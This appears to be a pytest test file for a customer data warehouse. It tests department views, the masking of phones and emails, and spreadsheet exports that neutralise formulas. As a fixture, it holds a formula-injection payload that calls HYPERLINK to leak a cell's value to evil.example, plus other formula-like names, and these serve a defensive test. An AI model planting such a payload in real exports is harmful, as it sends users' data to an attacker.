"""Department views, masked views and exports of the published warehouse, on real DuckDB files."""

import datetime as dt

import duckdb
import openpyxl
import pandas as pd
import pytest

from pipelines.cli import main
from tests.builders import complete_tables, run_sync
from warehouse.exports import (
    FORMULA_TRIGGERS,
    XLSX_MAX_ROWS,
    ExportError,
    export_relation,
    neutralise_formula,
    spreadsheet_cell,
)
from warehouse.publish import Publication, publish
from warehouse.views import create_views, department_view_name, masked_email_sql, masked_phone_sql

DEPARTMENTS = ("sales", "after_sales", "marketing", "customer_service")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def publication(run_id: str, departments: tuple[str, ...]) -> Publication:
    """Three customers: 张伟 held by sales and after-sales, a company held by marketing whose name is
    a formula, and a person held by after-sales with formula-like names and no contact details.
    customer_service is registered but holds nobody."""
    customers = pd.DataFrame(
        {
            "customer_id": ["CUST-0000001", "CUST-0000002", "CUST-0000003"],
            "customer_type": ["person", "company", "person"],
            "display_name": ["张伟", HYPERLINK, "@SUM(1+1)"],
            "person_name": ["张伟", None, "-2+3"],
            "phone": ["+8613800138000", "+14155552671", None],
            "email": ["zhangwei@163.com", "a@example.com", None],
            "id_number": ["440305********1234", None, None],
            "birthday": pd.to_datetime(["1985-09-28", None, None]),
            "phones": [["+8613800138000", "+8675512345678"], ["+14155552671"], []],
            "emails": [["zhangwei@163.com"], ["a@example.com"], []],
            "departments": [["after_sales", "sales"], ["marketing"], ["after_sales"]],
            "record_count": [2, 1, 1],
        }
    )
    links = pd.DataFrame(
        {
            "record_key": ["sales:Sheet!2", "service:line 2", "fair:Sheet!2", "service:line 3"],
            "customer_id": ["CUST-0000001", "CUST-0000001", "CUST-0000002", "CUST-0000003"],
            "source": ["sales", "service", "fair", "service"],
            "department": ["sales", "after_sales", "marketing", "after_sales"],
            "source_locator": ["Sheet!2", "line 2", "Sheet!2", "line 3"],
            "loaded_at": pd.Timestamp("2026-11-01 02:00"),
            "matched_by": [
                "shared_personal_contact",
                "shared_personal_contact",
                "single_record",
                "single_record",
            ],
        }
    )
    run = pd.DataFrame(
        [
            {
                "run_id": run_id,
                "published_at": pd.Timestamp.now(),
                "sources_read": 3,
                "sources_failed": 0,
                "records_read": 4,
                "records_quarantined": 0,
                "records_linked": 4,
                "customers": 3,
                "duplicates_merged": 1,
            }
        ]
    )
    return Publication(
        run_id,
        complete_tables({"customers": customers, "customer_sources": links, "sync_runs": run}),
        departments,
    )


@pytest.fixture
def warehouse(tmp_path):
    database = tmp_path / "hub.duckdb"
    with duckdb.connect(str(database)) as connection:
        publish(connection, publication("run-1", DEPARTMENTS))
    return database


def view_names(database) -> set[str]:
    with duckdb.connect(str(database), read_only=True) as connection:
        return {
            name
            for (name,) in connection.execute(
                "SELECT view_name FROM duckdb_views() WHERE NOT internal"
            ).fetchall()
        }


def customer_ids(database, view: str) -> set[str]:
    with duckdb.connect(str(database), read_only=True) as connection:
        return {customer for (customer,) in connection.execute(f"SELECT customer_id FROM {view}").fetchall()}


@pytest.mark.parametrize(
    ("department", "expected"),
    [
        ("sales", {"CUST-0000001"}),
        ("after_sales", {"CUST-0000001", "CUST-0000003"}),
        ("marketing", {"CUST-0000002"}),
        ("customer_service", set()),
    ],
)
def test_a_department_view_holds_exactly_the_customers_with_a_record_from_it(warehouse, department, expected):
    assert customer_ids(warehouse, f"dept_{department}") == expected
    assert customer_ids(warehouse, f"dept_{department}_masked") == expected


@pytest.mark.parametrize(
    ("department", "view"),
    [
        ("after_sales", "dept_after_sales"),
        ("After Sales", "dept_after_sales"),
        ("售后 / 维修", "dept_售后_维修"),
    ],
)
def test_department_view_names_are_plain_identifiers(department, view):
    assert department_view_name(department) == view


def test_views_switch_with_the_tables_and_a_failed_publish_keeps_the_previous_ones(warehouse, monkeypatch):
    # The same run_id again breaks sync_runs' primary key while the tables are written.
    with duckdb.connect(str(warehouse)) as connection, pytest.raises(duckdb.ConstraintException):
        publish(connection, publication("run-1", ("sales",)))
    assert {"dept_marketing", "dept_customer_service_masked"} <= view_names(warehouse)

    def create_views_then_fail(*arguments, **options):
        create_views(*arguments, **options)
        raise RuntimeError("the publish fails once the views are replaced")

    monkeypatch.setattr("warehouse.publish.create_views", create_views_then_fail)
    with duckdb.connect(str(warehouse)) as connection, pytest.raises(RuntimeError):
        publish(connection, publication("run-2", ("sales",)))
    assert {"dept_marketing", "dept_customer_service_masked"} <= view_names(warehouse)
    monkeypatch.undo()

    with duckdb.connect(str(warehouse)) as connection:
        publish(connection, publication("run-2", ("sales",)))
    assert {name for name in view_names(warehouse) if name.startswith("dept_")} == {
        "dept_sales",
        "dept_sales_masked",
    }
    assert "customers_masked" in view_names(warehouse)


@pytest.mark.parametrize(
    ("phone", "masked"),
    [
        ("+8613800138000", "+86 138****8000"),
        ("+8675512345678", "+86 755****5678"),
        ("+14155552671", "+141****2671"),
        ("+8612345", "****"),
        (None, None),
    ],
)
def test_phones_are_masked_in_the_middle(phone, masked):
    assert duckdb.execute(
        f"SELECT {masked_phone_sql('p')} FROM (SELECT ?::VARCHAR AS p)", [phone]
    ).fetchone() == (masked,)


@pytest.mark.parametrize(
    ("email", "masked"),
    [
        ("zhangwei@163.com", "z***@163.com"),
        ("a@example.com", "***@example.com"),
        ('"odd@name"@example.com', '"***@example.com'),
        ("not-an-email", "***"),
        (None, None),
    ],
)
def test_emails_keep_only_the_first_character_and_the_domain(email, masked):
    assert duckdb.execute(
        f"SELECT {masked_email_sql('e')} FROM (SELECT ?::VARCHAR AS e)", [email]
    ).fetchone() == (masked,)


def test_masked_views_keep_nothing_of_a_full_phone_or_email_and_id_numbers_stay_masked(warehouse):
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        full = connection.execute("SELECT customer_id, phones, emails FROM customers").fetchall()
        masked = {row[0]: str(row) for row in connection.execute("SELECT * FROM customers_masked").fetchall()}
        zhang = connection.execute("SELECT phone, email, phones, id_number FROM dept_sales_masked").fetchone()
        columns = [
            connection.sql(f"SELECT * FROM {view}").columns for view in ("customers", "customers_masked")
        ]
    assert columns[0] == columns[1]
    assert zhang == (
        "+86 138****8000",
        "z***@163.com",
        ["+86 138****8000", "+86 755****5678"],
        "440305********1234",
    )
    for customer_id, phones, emails in full:
        for value in phones + emails:
            assert value not in masked[customer_id]


@pytest.mark.parametrize(
    ("text", "neutralised"),
    [
        ("=1+1", "'=1+1"),
        ("+8613800138000", "'+8613800138000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("张伟", "张伟"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text, neutralised):
    assert neutralise_formula(text) == neutralised


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (["+8613800138000", "+8675512345678"], "'+8613800138000; +8675512345678"),
        (["sales", None], "sales; "),
        (-2, -2),
        (dt.date(1985, 9, 28), dt.date(1985, 9, 28)),
        (None, None),
    ],
)
def test_spreadsheet_cells_keep_numbers_and_dates_typed_and_neutralise_text(value, cell):
    assert spreadsheet_cell(value) == cell


def test_csv_export_is_utf8_with_bom_and_neutralises_formulas(warehouse, tmp_path):
    output = tmp_path / "customers.csv"

    assert export_relation(warehouse, "customers", "csv", output) == 3

    assert output.read_bytes().startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(output, dtype=str, keep_default_na=False, encoding="utf-8-sig").set_index(
        "customer_id"
    )
    assert frame.loc[
        "CUST-0000001", ["display_name", "phone", "phones", "record_count", "birthday"]
    ].tolist() == ["张伟", "'+8613800138000", "'+8613800138000; +8675512345678", "2", "1985-09-28"]
    assert frame.loc["CUST-0000002", "display_name"] == "'" + HYPERLINK
    assert frame.loc["CUST-0000003", ["display_name", "person_name"]].tolist() == ["'@SUM(1+1)", "'-2+3"]
    assert not frame.map(lambda text: text.startswith(FORMULA_TRIGGERS)).any().any()


def test_xlsx_export_writes_text_never_formulas_and_keeps_types(warehouse, tmp_path):
    output = tmp_path / "customers.xlsx"

    assert export_relation(warehouse, "customers", "xlsx", output) == 3

    sheet = openpyxl.load_workbook(output).active
    header, *rows = sheet.iter_rows()
    cells = {row[0].value: {column.value: cell for column, cell in zip(header, row)} for row in rows}
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert not any(
        isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
        for row in rows
        for cell in row
    )
    zhang, company = cells["CUST-0000001"], cells["CUST-0000002"]
    assert (zhang["display_name"].value, zhang["phone"].value, zhang["record_count"].value) == (
        "张伟",
        "'+8613800138000",
        2,
    )
    assert zhang["birthday"].value == dt.datetime(1985, 9, 28)
    assert company["display_name"].value == "'" + HYPERLINK


def test_parquet_export_keeps_values_as_they_are(warehouse, tmp_path):
    output = tmp_path / "customers.parquet"

    assert export_relation(warehouse, "dept_after_sales", "parquet", output) == 2

    with duckdb.connect(str(warehouse), read_only=True) as connection:
        published = connection.sql("SELECT * FROM dept_after_sales ORDER BY customer_id")
        expected, expected_types = published.fetchall(), published.dtypes
        exported = connection.sql(f"SELECT * FROM read_parquet('{output}') ORDER BY customer_id")
        assert exported.dtypes == expected_types
        assert exported.fetchall() == expected
        assert exported.select("phone").fetchall() == [("+8613800138000",), (None,)]


def test_a_table_too_big_for_a_sheet_is_refused_as_xlsx_and_streamed_as_csv(tmp_path):
    database = tmp_path / "calls.duckdb"
    with duckdb.connect(str(database)) as connection:
        connection.execute(
            f"CREATE TABLE call_log AS SELECT range AS call_number FROM range({XLSX_MAX_ROWS})"
        )

    with pytest.raises(ExportError, match=r"1,048,576 rows.*export it as csv or parquet"):
        export_relation(database, "call_log", "xlsx", tmp_path / "calls.xlsx")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["calls.duckdb"]

    assert export_relation(database, "call_log", "csv", tmp_path / "calls.csv") == XLSX_MAX_ROWS
    with (tmp_path / "calls.csv").open(encoding="utf-8-sig") as exported:
        assert sum(1 for _ in exported) == XLSX_MAX_ROWS + 1


def test_an_unknown_view_is_refused_with_the_available_ones(warehouse, tmp_path):
    with pytest.raises(
        ExportError, match=r"no table or view 'dept_finance'.*customers_masked, dept_after_sales"
    ):
        export_relation(warehouse, "dept_finance", "csv", tmp_path / "finance.csv")
    assert not (tmp_path / "finance.csv").exists()


def test_cli_exports_a_department_view(warehouse, tmp_path, capsys):
    output = tmp_path / "exports" / "after_sales.xlsx"

    exit_code = main(
        [
            "export",
            "dept_after_sales_masked",
            "--format",
            "xlsx",
            "--output",
            str(output),
            "--warehouse",
            str(warehouse),
        ]
    )

    assert exit_code == 0
    assert "exported 2 rows of dept_after_sales_masked" in capsys.readouterr().out
    rows = list(openpyxl.load_workbook(output).active.iter_rows(min_row=2, values_only=True))
    assert sorted((row[0], row[6]) for row in rows) == [
        ("CUST-0000001", "'+86 138****8000"),
        ("CUST-0000003", None),
    ]


def test_cli_refuses_an_unknown_view_or_warehouse_without_a_traceback(warehouse, tmp_path, capsys):
    unknown_view = main(
        [
            "export",
            "dept_finance",
            "--format",
            "csv",
            "--output",
            str(tmp_path / "f.csv"),
            "--warehouse",
            str(warehouse),
        ]
    )
    view_error = capsys.readouterr().err
    no_warehouse = main(["views", "--warehouse", str(tmp_path / "missing.duckdb")])

    assert (unknown_view, no_warehouse) == (2, 2)
    assert "no table or view 'dept_finance'" in view_error and "dept_sales_masked" in view_error
    assert "no warehouse at" in capsys.readouterr().err


def test_cli_lists_tables_and_views_with_their_rows(warehouse, capsys):
    assert main(["views", "--warehouse", str(warehouse)]) == 0

    listed = {line.split()[0]: line.split()[1:] for line in capsys.readouterr().out.splitlines()}
    assert listed["customers"] == ["table", "3"]
    assert listed["dept_after_sales_masked"] == ["view", "2"]
    assert listed["dept_customer_service"] == ["view", "0"]


def test_a_real_sync_gives_each_registered_department_its_views(small_sources, tmp_path):
    database = tmp_path / "hub.duckdb"

    assert run_sync(small_sources, database).success

    with duckdb.connect(str(database), read_only=True) as connection:
        names = {
            view: sorted(
                name for (name,) in connection.execute(f"SELECT display_name FROM {view}").fetchall()
            )
            for view in ("dept_sales", "dept_after_sales", "dept_marketing")
        }
        zhang = connection.execute(
            "SELECT phone, email FROM dept_sales_masked WHERE display_name = '张伟'"
        ).fetchone()
    # marketing's only source is unreadable this run: its view is there, and empty.
    assert names == {
        "dept_sales": ["张伟", "李娜"],
        "dept_after_sales": ["张伟", "王芳"],
        "dept_marketing": [],
    }
    assert zhang == ("+86 138****8000", "z***@163.com")
